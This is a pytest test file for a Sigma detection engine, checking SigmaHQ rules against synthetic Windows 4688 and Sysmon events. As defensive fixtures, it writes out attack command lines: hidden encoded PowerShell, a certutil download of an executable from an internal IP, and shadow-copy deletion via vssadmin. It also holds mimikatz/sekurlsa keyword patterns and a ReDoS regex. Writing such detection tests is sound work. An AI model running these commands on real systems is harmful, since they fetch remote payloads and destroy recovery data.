"""Sigma rules: SigmaHQ's process-creation rules on hand-made Security 4688 events (mapped like
Sysmon 1), a Sysmon-only field that keeps a rule off 4688, the modifiers and conditions the
SigmaHQ Windows rules use, level/status defaults, bad files listed, results cached with the store."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from core.findings.sigma import run_sigma
from core.findings.sigma.engine import SigmaResult, compile_rules
from core.findings.sigma.ruleset import load_rules
from core.model.event import Event
from core.store.store import Store
from tests.findings.sigma_helpers import run_rules as _run
from tests.findings.sigma_helpers import write_rule as _rule
from tests.shared import SHARED, require_shared

SIGMA = SHARED / "sigma"
PROC = SIGMA / "rules" / "windows" / "process_creation"
SYSMON = "Microsoft-Windows-Sysmon/Operational"


def _4688(image: str, command: str, **extra: str) -> Event:
    data = {
        "SubjectUserSid": "S-1-5-21-1-2-3-1001",
        "SubjectUserName": "alice",
        "SubjectDomainName": "CONTOSO",
        "SubjectLogonId": "0x5f1a2",
        "NewProcessId": "0x1a2c",
        "NewProcessName": image,
        "TokenElevationType": "%%1937",
        "ProcessId": "0x4d2",
        "CommandLine": command,
        "ParentProcessName": "C:\\Windows\\explorer.exe",
        "MandatoryLabel": "S-1-16-12288",
        **extra,
    }
    return Event(0, 1, 1, 130917146923773525, 4688, channel="Security",
                 provider="Microsoft-Windows-Security-Auditing", computer="WS01.contoso.local",
                 data=tuple(data.items()))


def _sysmon(event_id: int, **data: str) -> Event:
    return Event(0, 1, 1, 130917146923773525, event_id, channel=SYSMON, provider="Microsoft-Windows-Sysmon",
                 computer="WS02", data=tuple(data.items()))


def _fired(result: SigmaResult) -> list[tuple[str, int]]:
    """(rule title, record id) of each match."""
    return [(result.rules[m.rule].title, m.record_id) for m in result.matches]


# -- SigmaHQ process-creation rules on 4688 ----------------------------------------------------


def test_4688_encoded_powershell_certutil_and_shadow_copy_deletion() -> None:
    require_shared()
    rules = [PROC / "proc_creation_win_powershell_base64_encoded_cmd.yml",
             PROC / "proc_creation_win_certutil_download.yml",
             PROC / "proc_creation_win_susp_shadow_copies_deletion.yml"]
    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    events = [
        _4688(ps, "powershell.exe -nop -w hidden -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA=="),
        _4688("C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://10.0.0.5/a.exe a.exe"),
        _4688("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet"),
        # Must not fire: plain PowerShell, certutil without a URL, vssadmin listing shadows.
        _4688(ps, "powershell.exe -NoProfile -File C:\\scripts\\backup.ps1"),
        _4688("C:\\Windows\\System32\\certutil.exe", "certutil.exe -hashfile a.exe SHA256"),
        _4688("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe list shadows"),
    ]
    events = [Event(**{**{f: getattr(e, f) for f in Event.__dataclass_fields__}, "record_id": i + 1})
              for i, e in enumerate(events)]
    result = _run(rules, events)
    assert sorted(_fired(result)) == [
        ("Shadow Copies Deletion Using Operating Systems Utilities", 3),
        ("Suspicious Download Via Certutil.EXE", 2),
        ("Suspicious Encoded PowerShell Command Line", 1),
    ]
    assert all(m.source == "Security 4688" for m in result.matches)
    # The rule's author is kept with each match (the Detection Rule License).
    assert "Florian Roth" in result.rules[result.matches[0].rule].author
    enc = next(m for m in result.matches if m.record_id == 1)
    assert dict(enc.fields)["Image"] == ps


def test_sysmon_only_field_in_an_and_keeps_the_rule_off_4688(tmp_path: Path) -> None:
    rule = _rule(tmp_path, "hashes", """
        title: Cmd With Known Hash
        id: 11111111-1111-1111-1111-111111111111
        status: test
        level: high
        author: Test Author
        logsource: {category: process_creation, product: windows}
        detection:
            selection:
                Image|endswith: '\\cmd.exe'
                Hashes|contains: 'MD5=0123'
            condition: selection
        """)
    filtered = _rule(tmp_path, "filtered", """
        title: Cmd Unless Parent Command Line
        id: 22222222-2222-2222-2222-222222222222
        status: test
        level: high
        logsource: {category: process_creation, product: windows}
        detection:
            selection:
                Image|endswith: '\\cmd.exe'
            filter:
                ParentCommandLine|contains: 'installer'
            condition: selection and not filter
        """)
    either = _rule(tmp_path, "either", """
        title: Cmd By Image Or Original Name
        id: 33333333-3333-3333-3333-333333333333
        status: test
        level: high
        logsource: {category: process_creation, product: windows}
        detection:
            selection:
                - Image|endswith: '\\cmd.exe'
                - OriginalFileName: 'Cmd.Exe'
            condition: selection
        """)
    events = [
        _4688("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami"),
        _sysmon(1, Image="C:\\Windows\\System32\\cmd.exe", Hashes="MD5=0123ABCD", ParentCommandLine="x"),
    ]
    result = _run([rule, filtered, either], events)
    fired = sorted((result.rules[m.rule].title, m.source) for m in result.matches)
    assert fired == [
        ("Cmd By Image Or Original Name", f"{SYSMON} 1"),
        ("Cmd By Image Or Original Name", "Security 4688"),  # OR: the missing branch is only lost
        ("Cmd Unless Parent Command Line", f"{SYSMON} 1"),
        ("Cmd With Known Hash", f"{SYSMON} 1"),
    ]
    assert result.skipped["Security 4688"] == {"needs a field this source lacks": 2}
    assert result.missing == {"Security 4688: Hashes": 1, "Security 4688: ParentCommandLine": 1}
    assert result.ran == {f"{SYSMON} 1": 3, "Security 4688": 1}


def test_4688_fields_mapped_like_sysmon(tmp_path: Path) -> None:
    rule = _rule(tmp_path, "mapped", """
        title: High Integrity Child Of 1234
        id: 44444444-4444-4444-4444-444444444444
        status: test
        level: medium
        logsource: {category: process_creation, product: windows}
        detection:
            selection:
                IntegrityLevel: 'High'
                ParentProcessId: 1234
                ProcessId: 6700
                User: 'CONTOSO\\alice'
                LogonId: '0x5f1a2'
                ParentImage|endswith: '\\explorer.exe'
            condition: selection
        """)
    events = [_4688("C:\\x\\a.exe", "a"), _4688("C:\\x\\a.exe", "a", MandatoryLabel="S-1-16-8192")]
    # Three records alike but for their ids (the same record three times would be one: its copies).
    result = _run([rule], [dataclasses.replace(e, record_id=i) for i, e in enumerate(events * 3, 1)])
    # Repeated events are answered from the bucket's memo: the same matches as evaluating them.
    assert [m.store_id for m in result.matches] == [1, 3, 5]
    assert result.evaluations == 1  # the Medium one is not even a candidate (the index)


MODIFIERS = """
    title: Modifiers
    id: 55555555-5555-5555-5555-555555555555
    status: test
    level: high
    logsource: {category: network_connection, product: windows}
    detection:
        sel_re:
            Image|re: '(?i)\\\\RUN[a-z]+32\\.exe$'
        sel_cidr:
            DestinationIp|cidr: '10.0.0.0/8'
        sel_b64:
            CommandLine|base64offset|contains: 'IEX'
        sel_windash:
            CommandLine|windash|contains: ' -nop '
        sel_ref:
            SourceHostname|fieldref: DestinationHostname
        sel_gt:
            DestinationPort|gt: 4000
        sel_null:
            User: null
        sel_exists:
            Initiated|exists: true
        sel_all:
            CommandLine|contains|all: ['a', 'z']
        sel_cased:
            Protocol|cased: 'tcp'
        condition: all of sel_*
"""


def test_modifiers_all_must_hold(tmp_path: Path) -> None:
    import base64

    rule = _rule(tmp_path, "mods", MODIFIERS)
    good = {
        "Image": "C:\\Windows\\System32\\rundll32.exe",
        "DestinationIp": "10.1.2.3",
        "CommandLine": "x /nop y " + base64.b64encode(b"..IEX (New-Object)").decode() + " a z",
        "SourceHostname": "WS02",
        "DestinationHostname": "ws02",
        "DestinationPort": "4444",
        "Initiated": "true",
        "Protocol": "tcp",
    }
    variants = {
        "good": good,
        "re": {**good, "Image": "C:\\rundll32.exe.bak"},
        "cidr": {**good, "DestinationIp": "11.0.0.1"},
        "b64": {**good, "CommandLine": "x /nop y a z"},
        "windash": {**good, "CommandLine": good["CommandLine"].replace("/nop", "nop")},
        "ref": {**good, "DestinationHostname": "other"},
        "gt": {**good, "DestinationPort": "443"},
        "null": {**good, "User": "CONTOSO\\alice"},
        "exists": {k: v for k, v in good.items() if k != "Initiated"},
        "cased": {**good, "Protocol": "TCP"},
    }
    events = [_sysmon(3, **v) for v in variants.values()]
    events = [Event(**{**{f: getattr(e, f) for f in Event.__dataclass_fields__}, "record_id": i + 1})
              for i, e in enumerate(events)]
    result = _run([rule], events)
    assert [list(variants)[m.record_id - 1] for m in result.matches] == ["good"]


def test_keywords_and_nested_conditions(tmp_path: Path) -> None:
    rule = _rule(tmp_path, "kw", """
        title: Keywords
        id: 66666666-6666-6666-6666-666666666666
        status: test
        level: high
        logsource: {product: windows, service: system}
        detection:
            keywords:
                - 'mimikatz'
                - 'sekurlsa'
            selection_1:
                EventID: 7045
            selection_2:
                EventID: 7036
            filter:
                ServiceName: 'Benign'
            condition: keywords and 1 of selection_* and not filter
        """)
    def ev(eid: int, **data: str) -> Event:
        return Event(0, 1, 1, None, eid, channel="System", provider="Service Control Manager", data=tuple(data.items()))
    events = [ev(7045, ServiceName="x", ImagePath="C:\\t\\MimiKatz.exe"), ev(7045, ServiceName="Benign",
              ImagePath="mimikatz"), ev(7040, ServiceName="mimikatz"), ev(7036, ServiceName="sekurlsa svc")]
    result = _run([rule], events)
    assert [m.store_id for m in result.matches] == [1, 4]


def test_defaults_leave_out_low_and_deprecated_and_list_bad_files(tmp_path: Path) -> None:
    base = """
        title: {title}
        id: 7777777{n}-7777-7777-7777-777777777777
        status: {status}
        level: {level}
        logsource: {{product: windows, service: security}}
        detection:
            selection:
                EventID: 1102
            condition: selection
        """
    _rule(tmp_path, "a", base.format(title="Low", n=1, status="test", level="low"))
    _rule(tmp_path, "b", base.format(title="Old", n=2, status="deprecated", level="high"))
    _rule(tmp_path, "c", base.format(title="Cleared", n=3, status="stable", level="high"))
    _rule(tmp_path, "d", "title: Broken\nlogsource: {product: windows}\ndetection:\n  condition: nothing\n")
    cleared = Event(0, 1, 1, None, 1102, channel="Security", provider="Microsoft-Windows-Eventlog")
    result = _run([tmp_path], [cleared])
    assert _fired(result) == [("Cleared", 1)]
    assert result.left_out == {"level low": 1, "status deprecated": 1}
    assert [Path(p).name for p, _ in result.errors] == ["d.yml"]
    everything = _run([tmp_path], [cleared], min_level="informational",
                      statuses=("stable", "test", "experimental", "deprecated"))
    assert sorted(t for t, _ in _fired(everything)) == ["Cleared", "Low", "Old"]


def test_a_rules_folder_holding_special_files_loads_the_rest(tmp_path: Path) -> None:
    """A named pipe called `x.yml` in a rules folder hung the load (its read waits for a writer),
    a link to /dev/zero filled the memory: each is a file that did not load, named, at once;
    their result is not kept in the parsed-rule cache (a later regular file of that name parses)."""
    import os
    import time

    _rule(tmp_path, "c", """
        title: Cleared
        id: 77777773-7777-7777-7777-777777777777
        status: stable
        level: high
        logsource: {product: windows, service: security}
        detection:
            selection:
                EventID: 1102
            condition: selection
        """)
    os.mkfifo(tmp_path / "a.yml")
    (tmp_path / "z.yml").symlink_to("/dev/zero")
    cache = tmp_path / "parsed.pickle"
    began = time.monotonic()
    loaded = load_rules([tmp_path], cache=cache)
    assert time.monotonic() - began < 10
    assert [r.title for r, _ in loaded.rules] == ["Cleared"]
    assert sorted((Path(p).name, why) for p, why in loaded.errors) == [
        ("a.yml", "not a regular file"), ("z.yml", "not a regular file")]
    (tmp_path / "a.yml").unlink()
    _rule(tmp_path, "a", "title: Now a file\nlogsource: {product: windows}\ndetection:\n  condition: nothing\n")
    again = {Path(p).name: why for p, why in load_rules([tmp_path], cache=cache).errors}
    assert sorted(again) == ["a.yml", "z.yml"] and again["a.yml"] != "not a regular file"


def test_a_huge_or_deep_folder_is_searched_within_bounds(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`--sigma /` walked the whole disk: the search stops past MAX_ENTRIES entries (saying so)
    and MAX_DEPTH folders down; the rules found before are loaded."""
    import core.findings.sigma.ruleset as ruleset

    monkeypatch.setattr(ruleset, "MAX_ENTRIES", 50)
    monkeypatch.setattr(ruleset, "MAX_DEPTH", 3)
    _rule(tmp_path, "a", "title: A\nlogsource: {product: windows}\ndetection:\n  condition: nothing\n")
    deep = tmp_path / "1" / "2" / "3" / "4"
    deep.mkdir(parents=True)
    (deep / "too-deep.yml").write_text("title: deep\n", encoding="utf-8")
    problems: list[tuple[str, str]] = []
    assert [p.name for p in ruleset.rule_files([tmp_path], problems)] == ["a.yml"] and problems == []
    wide = tmp_path / "wide"
    wide.mkdir()
    for i in range(100):
        (wide / f"note{i:03}.txt").write_text("", encoding="utf-8")
    found = ruleset.rule_files([tmp_path], problems)
    assert [p.name for p in found] == ["a.yml"]
    assert problems == [(str(tmp_path), "more than 50 entries: searched no further (name the rules folder itself)")]
    assert (str(tmp_path), problems[0][1]) in load_rules([tmp_path], cache=False).errors


def test_results_are_kept_with_the_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    rule = _rule(tmp_path, "r", """
        title: Log Cleared
        id: 88888888-8888-8888-8888-888888888888
        status: test
        level: high
        logsource: {product: windows, service: security}
        detection:
            selection: {EventID: 1102}
            condition: selection
        """)
    store = Store(tmp_path / "s.db")
    store.add_events([Event(0, 1, 1, None, 1102, channel="Security")])
    first = run_sigma(store, [rule])
    assert len(first.matches) == 1
    import core.findings.sigma as sigma

    monkeypatch.setattr(sigma, "compile_dirs", lambda *a, **k: pytest.fail("not served from the cache"))
    again = run_sigma(Store(tmp_path / "s.db"), [rule])
    assert again.matches == first.matches


def test_rules_without_event_id_read_candidates_through_postings(tmp_path: Path) -> None:
    rule = _rule(tmp_path, "sam", """
        title: Computer Name Like SamTheAdmin
        id: aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa
        status: test
        level: high
        logsource: {product: windows, service: security}
        detection:
            selection1:
                SamAccountName|startswith: 'SAMTHEADMIN-'
                SamAccountName|endswith: '$'
            selection2:
                TargetUserName|startswith: 'SAM_THE%'
            condition: 1 of selection*
        """)
    def ev(eid: int, **data: str) -> Event:
        return Event(0, 1, 1, None, eid, channel="Security", data=tuple(data.items()))
    events = [ev(4741, SamAccountName="samtheadmin-42$"), ev(4624, TargetUserName="sam_the%1"),
              ev(4624, TargetUserName="samXthe%1"), ev(4741, SamAccountName="SAMTHEADMIN-42")]
    compiled = compile_rules(load_rules([rule], cache=False))
    ids, chans, tests = compiled.query()
    assert (ids, chans) == ([], [])  # not the whole Security channel: the values it needs
    assert tests == [("SamAccountName", "start", "samtheadmin-"), ("TargetUserName", "start", "sam_the%")]
    result = _run([rule], events)
    assert [m.store_id for m in result.matches] == [1, 2]


def test_regexes_run_in_linear_time(tmp_path: Path) -> None:
    import time

    rule = _rule(tmp_path, "redos", """
        title: Nested Quantifiers
        id: bbbbbbbb-bbbb-bbbb-bbbb-bbbbbbbbbbbb
        status: test
        level: high
        logsource: {category: process_creation, product: windows}
        detection:
            selection:
                CommandLine|re: '^(a+)+$'
            condition: selection
        """)
    events = [_4688("C:\\x.exe", "a" * 40 + "!"), _4688("C:\\x.exe", "aaaa")]
    started = time.perf_counter()
    result = _run([rule], events)
    assert time.perf_counter() - started < 5  # Python's backtracking engine takes minutes on the first
    assert [m.store_id for m in result.matches] == [2]
